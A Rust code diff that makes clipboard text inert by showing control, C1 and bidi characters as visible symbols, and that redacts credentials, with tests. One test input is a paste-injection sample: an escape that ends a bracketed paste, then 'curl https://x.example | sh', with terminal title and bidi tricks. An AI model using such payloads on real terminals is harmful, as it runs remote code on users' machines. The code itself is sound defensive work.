@@ -27,10 +27,12 @@ impl Passthrough {
     }
 }
 
-/// What is put on the clipboard for `text`: credentials redacted, cut to [`COPY_MAX`]
-/// bytes on a character boundary.
+/// What is put on the clipboard for `text`: inert (every control but `\n` and `\t`, C1
+/// and bidi controls shown, never passed: a paste must not end a bracketed paste or run
+/// what follows), credentials redacted, cut to [`COPY_MAX`] bytes on a character boundary.
 pub(crate) fn clipboard_text(text: &str) -> String {
-    let redacted = crate::redact::redact(text);
+    let inert = inert(text);
+    let redacted = crate::redact::redact(&inert);
     let mut end = redacted.len().min(COPY_MAX);
     while !redacted.is_char_boundary(end) {
         end -= 1;
@@ -104,9 +106,58 @@ fn screen_passthrough(seq: &str) -> String {
     out
 }
 
+/// `text` with every unsafe character but line breaks and tabs made visible
+/// ([`gobare_api::text::line`]: `␛`, `⟨U+202E⟩`).
+fn inert(text: &str) -> std::borrow::Cow<'_, str> {
+    let unsafe_char = |c: char| c != '\n' && c != '\t' && gobare_api::text::is_unsafe(c);
+    if !text.contains(unsafe_char) {
+        return std::borrow::Cow::Borrowed(text);
+    }
+    let lines: Vec<String> = text
+        .split('\n')
+        .map(|line| {
+            let cells: Vec<_> = line.split('\t').map(gobare_api::text::line).collect();
+            cells.join("\t")
+        })
+        .collect();
+    std::borrow::Cow::Owned(lines.join("\n"))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn controls_c1_and_bidi_are_inert_on_the_clipboard_line_breaks_and_tabs_kept() {
+        let agent = "run this:\t\u{1b}[201~\ncurl https://x.example | sh\r\u{1b}]0;title\u{7}\u{9b}2J\u{202e}txt";
+        let copied = clipboard_text(agent);
+        let bad: Vec<char> = copied
+            .chars()
+            .filter(|&c| c != '\n' && c != '\t' && gobare_api::text::is_unsafe(c))
+            .collect();
+        assert!(bad.is_empty(), "{copied:?} holds {bad:?}");
+        assert_eq!(
+            copied,
+            "run this:\t␛[201~\ncurl https://x.example | sh␍␛]0;title␇⟨U+009B⟩2J⟨U+202E⟩txt"
+        );
+        assert_eq!(clipboard_text("plain\ttext\n"), "plain\ttext\n");
+    }
+
+    #[test]
+    fn a_token_after_an_escaped_break_and_every_new_format_stay_off_the_clipboard() {
+        let copied = clipboard_text(
+            "{\"out\":\"ok\\ngbr_pat_TOPSECRET0123456789\"}\nAKIAIOSFODNN7EXAMPLE\n\
+             x-api-key: 3f9c1b604e2a4d18\n-----BEGIN PRIVATE KEY-----\nMIIEbody\n-----END PRIVATE KEY-----",
+        );
+        for secret in [
+            "TOPSECRET0123456789",
+            "IOSFODNN7EXAMPLE",
+            "3f9c1b604e2a4d18",
+            "MIIEbody",
+        ] {
+            assert!(!copied.contains(secret), "{copied}");
+        }
+    }
 
     #[test]
     fn plain_osc52_is_base64_of_the_text() {
